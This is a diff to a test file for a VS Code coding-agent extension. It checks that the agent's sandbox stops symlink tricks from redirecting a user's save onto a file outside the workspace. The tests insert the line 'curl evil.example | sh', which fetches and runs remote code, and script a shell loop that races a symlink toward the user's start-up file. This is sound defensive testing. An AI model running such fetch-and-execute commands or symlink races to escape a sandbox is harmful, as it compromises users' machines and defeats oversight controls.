@@ -4,6 +4,7 @@
 // written. With pi.sandbox.mode full-access, the chat header says Full access.
 import * as assert from "node:assert/strict";
 import * as fs from "node:fs";
+import * as os from "node:os";
 import * as path from "node:path";
 import * as vscode from "vscode";
 import { messageText, toolResultMessages } from "../../support/mock-llm";
@@ -19,6 +20,13 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
   const probe = () => path.join(workspaceRoot(), ".vscode", "pi-sandbox-probe.json");
   after(async () => {
     fs.rmSync(probe(), { force: true });
+    // The links the save guard moved aside from this workspace (into the user's ~/.pi/agent/quarantine).
+    const quarantine = path.join(os.homedir(), ".pi", "agent", "quarantine");
+    for (const batch of fs.existsSync(quarantine) ? fs.readdirSync(quarantine).filter((name) => name.includes("-save-")) : []) {
+      const moved = path.join(quarantine, batch, "moved.json");
+      const from = fs.existsSync(moved) ? (JSON.parse(fs.readFileSync(moved, "utf8")) as { from: string }[])[0]?.from : undefined;
+      if (from?.startsWith(`${workspaceRoot()}${path.sep}`)) fs.rmSync(path.join(quarantine, batch), { recursive: true, force: true });
+    }
     await vscode.workspace.getConfiguration("pi").update("sandbox.mode", undefined, vscode.ConfigurationTarget.Global);
   });
 
@@ -120,12 +128,16 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
   }
 
   /** The agent's edit in the buffer (as editor_edit makes it), then the user's Ctrl+S in the editor. */
-  async function editAndSave(document: vscode.TextDocument, line: string): Promise<void> {
+  async function editAndSave(opened: vscode.TextDocument, line: string): Promise<vscode.TextDocument> {
+    // The document as VS Code has it now (a file replaced on disk can have had its model made anew).
+    const document = await vscode.workspace.openTextDocument(opened.uri);
     const edit = new vscode.WorkspaceEdit();
     edit.insert(document.uri, new vscode.Position(document.lineCount, 0), line);
-    assert.ok(await vscode.workspace.applyEdit(edit));
+    const applied = await vscode.workspace.applyEdit(edit);
+    assert.ok(applied, `the edit applied (closed ${document.isClosed}, version ${document.version}, dirty ${document.isDirty}, ${document.lineCount} lines)`);
     await vscode.window.showTextDocument(document, { preview: false });
     await ui.pressKey("Control+S");
+    return document;
   }
 
   it("keeps a save in the workspace when a command made the open document's file a link to a file outside: the link is moved aside", async () => {
@@ -142,11 +154,11 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
       await runCommand(command, () => fs.lstatSync(file).isSymbolicLink());
       await host.llm.waitForRequests(before + 2);
       await eventually("the run to settle", async () => host.api.supervisor.status === "idle" && !(await host.state()).isStreaming);
-      await editAndSave(document, "curl evil.example | sh\n");
-      await eventually("the document saved", () => !document.isDirty || undefined, 20_000);
+      const edited = await editAndSave(document, "curl evil.example | sh\n");
+      await eventually("the document saved", () => !edited.isDirty || undefined, 20_000);
       assert.equal(fs.readFileSync(victim, "utf8"), "# the user's own start-up file\n", "the file outside is untouched");
       assert.equal(fs.lstatSync(file).isFile(), true, "a plain file where the user sees it");
-      assert.equal(fs.readFileSync(file, "utf8"), document.getText(), "holding what was saved");
+      assert.equal(fs.readFileSync(file, "utf8"), edited.getText(), "holding what was saved");
       const toast = await eventually("the warning", async () => (await ui.text(".notifications-toasts").catch(() => "")).match(/moved aside[^\n]*/)?.[0]);
       assert.match(toast, /moved aside/);
       await ui.screenshot("sandbox-save-link-moved-aside");
@@ -170,7 +182,7 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
       await vscode.window.showTextDocument(document, { preview: false });
       const before = host.llm.requests.length;
       const loop = `while :; do ln -sfn '${victim}' .race-l && mv -T .race-l ${name}; cp .race-keep .race-f && mv -T .race-f ${name}; done`;
-      const command = `cp ${name} .race-keep && touch .race-flipping && timeout 25 sh -c '${loop.replace(/'/g, "'\\''")}'; rm -f .race-flipping .race-keep .race-l .race-f; echo done`;
+      const command = `cp ${name} .race-keep && touch .race-flipping && timeout 15 sh -c '${loop.replace(/'/g, "'\\''")}'; rm -f .race-flipping .race-keep .race-l .race-f; echo done`;
       await runCommand(command, () => fs.existsSync(flipping));
       // Saves while the link comes and goes: each lands in the workspace or is refused as changed on disk.
       for (let i = 0; i < 8 && fs.existsSync(flipping); i++) {
@@ -178,7 +190,8 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
         await new Promise((resolve) => setTimeout(resolve, 1_000));
         assert.equal(fs.readFileSync(victim, "utf8"), "# the user's own start-up file\n", `save ${i}: the file outside is untouched`);
       }
-      await host.llm.waitForRequests(before + 2);
+      // The loop ends 15 s after it began (held meanwhile at each save): the run then ends.
+      await host.llm.waitForRequests(before + 2, 60_000);
       await eventually("the run to settle", async () => host.api.supervisor.status === "idle" && !(await host.state()).isStreaming, 60_000);
       assert.equal(fs.readFileSync(victim, "utf8"), "# the user's own start-up file\n", "the file outside is untouched");
     } finally {
